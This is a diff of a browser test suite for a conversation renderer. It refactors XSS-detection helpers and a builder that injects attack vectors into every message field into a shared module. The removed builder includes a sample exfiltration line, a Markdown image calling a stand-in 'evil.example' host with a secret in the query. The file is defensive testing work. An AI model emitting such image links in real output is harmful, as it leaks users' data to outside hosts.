@@ -18,6 +18,7 @@ import { engine, launchBrowser } from "../support/browser.mjs";
 import * as cd from "../../js/node.mjs";
 import { conversation } from "../../bench/generate.mjs";
 import { sample, sampleConversation } from "../../www/sample.js";
+import { hostileConversation, rec, watchForAttacks, watchPage } from "../support/kit.mjs";
 
 const repo = fileURLToPath(new URL("../..", import.meta.url));
 const streams = join(repo, "tests/fixtures/streams");
@@ -77,11 +78,8 @@ async function open({ width = 1000, height = 800, dark = false } = {}) {
   if (dark && !firefoxDark) await page.emulateMedia({ colorScheme: "dark" });
   await page.setViewportSize({ width, height });
   const watch = { console: [], dialogs: [], requests: [] };
+  await page.addInitScript(watchForAttacks);
   await page.addInitScript(() => {
-    window.__xssFired = 0;
-    window.__xss = () => { window.__xssFired++; };
-    window.__violations = [];
-    document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(`${e.violatedDirective}: ${e.blockedURI}`));
     // Helpers for the tests' page.evaluate calls.
     window.__frames = (n = 2) => new Promise((resolve) => {
       const step = () => (--n <= 0 ? resolve() : requestAnimationFrame(step));
@@ -103,13 +101,7 @@ async function open({ width = 1000, height = 800, dark = false } = {}) {
       return s.scrollHeight - s.scrollTop - s.clientHeight;
     };
   });
-  page.on("console", (m) => { if (m.type() === "error") watch.console.push(m.text()); });
-  page.on("pageerror", (e) => watch.console.push(String(e)));
-  page.on("dialog", async (d) => { watch.dialogs.push(d.message()); await d.dismiss(); });
-  page.on("request", (r) => {
-    const u = new URL(r.url());
-    if (u.hostname !== "127.0.0.1" && u.protocol !== "data:" && u.protocol !== "blob:") watch.requests.push(r.url());
-  });
+  watchPage(page, watch);
   await page.route((u) => u.hostname !== "127.0.0.1", (route) => route.fulfill({ status: 200, contentType: "image/png", body: PNG }));
   await page.goto(url + "page.html");
   await page.waitForSelector("body[data-ready]", { state: "attached" });
@@ -167,11 +159,6 @@ async function visitAll(page, { expand = false } = {}) {
   }, expand);
 }
 
-/** A display-message record, for records the tests build. */
-const rec = (message_type, content_type, content, extra = {}) => ({
-  conversation_id: "test", message_type, content_type, content, sequence: 0, status: "completed",
-  tool_call_id: null, metadata: {}, ...extra,
-});
 
 /** A value as text: a string as it is, anything else as indented JSON. */
 const asText = (value) => (typeof value === "string" ? value : JSON.stringify(value, null, 2));
@@ -891,55 +878,7 @@ test("a stream keeps the view at the end, and 'Jump to latest' shows when the re
   await page.close();
 });
 
-/** A citation with `v` in every string field (the shape of api.md's Rich provider content). */
-const citationOf = (v) => ({
-  type: v, cited_text: v, url: v, title: v, source: v, file_id: v, document_index: 0, document_title: v,
-  start_index: 1, end_index: 2, unit: "page",
-});
 
-/** Every vector in every string field of every content type, as records and as messages. */
-function hostileConversation() {
-  const out = [];
-  vectors.forEach((v, i) => {
-    out.push(
-      rec("assistant", "text", { text: v }),
-      rec("assistant", "thinking", { text: v }),
-      rec("assistant", "image", { url: v, caption: v, alt_text: v }),
-      rec("assistant", "image", { data: v, mime_type: "image/png", caption: v }),
-      rec("assistant", "file_reference", { name: v, path: v }),
-      rec("assistant", "structured_data", { format: "json", data: { [v]: [v, { k: v }] } }),
-      rec("assistant", "structured_data", { format: "csv", data: `h,${v}\n${v},x` }),
-      rec("assistant", "structured_data", { format: v, data: v }),
-      rec("system", "notification", { text: v }),
-      rec("system", "error", { text: v, path: v }),
-      rec("assistant", "tool_call", { call_id: `x${i}`, name: v, arguments: { q: v, [v]: [v] }, display_text: v }, { tool_call_id: `x${i}`, status: "pending" }),
-      rec("tool", "tool_result", { tool_call_id: `x${i}`, name: v, content: v, is_error: true }, { tool_call_id: `x${i}` }),
-      rec("assistant", "todo_snapshot", { todos: [{ id: 1, content: v, status: "pending" }], summary: { pending: v } }),
-      // Citations with the vector in every field (as url, as source only, as neither), a server
-      // tool's structured result, an approval request.
-      rec("assistant", "text", { text: v }, { metadata: { citations: [citationOf(v), { ...citationOf(v), url: null }, { ...citationOf(v), url: null, source: null, title: null, document_title: null }] } }),
-      rec("user", "text", { text: v }, { metadata: { citations: [citationOf(v)] } }),
-      rec("assistant", "thinking", { text: v }, { metadata: { citations: [citationOf(v)] } }),
-      rec("assistant", "tool_call", { call_id: `a${i}`, name: v, arguments: { [v]: v } }, { tool_call_id: `a${i}`, status: "pending", metadata: { approval_request: true } }),
-      rec("assistant", "tool_call", { call_id: `s${i}`, name: v, arguments: { query: v } }, { tool_call_id: `s${i}` }),
-      rec("tool", "tool_result", { tool_call_id: `s${i}`, name: v, content: v, is_error: false }, { tool_call_id: `s${i}`, metadata: { result: { [v]: [v, { url: v, title: v }] } } }),
-      { role: "user", content: v },
-      { role: "assistant", content: [{ type: "thinking", content: v }, { type: "text", content: v }],
-        tool_calls: [{ call_id: `m${i}`, name: v, arguments: { v }, display_text: v }] },
-      { role: "tool", tool_results: [{ tool_call_id: `m${i}`, name: v, content: v }] },
-      rec(v, v, { text: v }),
-      // Code fences (with a language, without one, and a language that is itself the vector), math,
-      // and a message whose text is split into blocks that each cite the vector.
-      rec("assistant", "text", { text: `\`\`\`js\n${v}\n\`\`\`\n\n\`\`\`\n${v}\n\`\`\`\n\n\`\`\`${v.replace(/[\n`]/g, " ")}\n${v}\n\`\`\`` }),
-      rec("assistant", "text", { text: `$$${v}$$ and \\(${v}\\) and \\[\\text{${v}}\\]` }),
-      rec("assistant", "text", { text: `- ${v}` }, { sequence: 0, metadata: { citations: [citationOf(v)] } }),
-      rec("assistant", "text", { text: ` ${v}\n` }, { sequence: 1, metadata: { citations: [citationOf(v), citationOf(`https://cite.example/${i}`)] } }),
-    );
-  });
-  // The exfiltration route: a Markdown image in model text.
-  out.push({ role: "assistant", content: "![x](http://evil.example/leak?d=secret)" });
-  return out;
-}
 
 /**
  * Visits every row (`expand`: with every tool call opened), opens every fold, fires events inside,
@@ -1029,7 +968,7 @@ test("records set again with the same conversation grown keeps the view, open ro
 
 test(`XSS: ${vectors.length} vectors in every field, through records and load, run nothing and load nothing`, async () => {
   assert.ok(vectors.length >= 100);
-  const hostile = hostileConversation();
+  const hostile = hostileConversation(vectors);
   const { page, watch } = await open({ width: 1280, height: 2400 });
   // Padded to 1 MiB, the bytes load through a Transcript; the parsed array through input.js.
   const text = JSON.stringify(hostile);
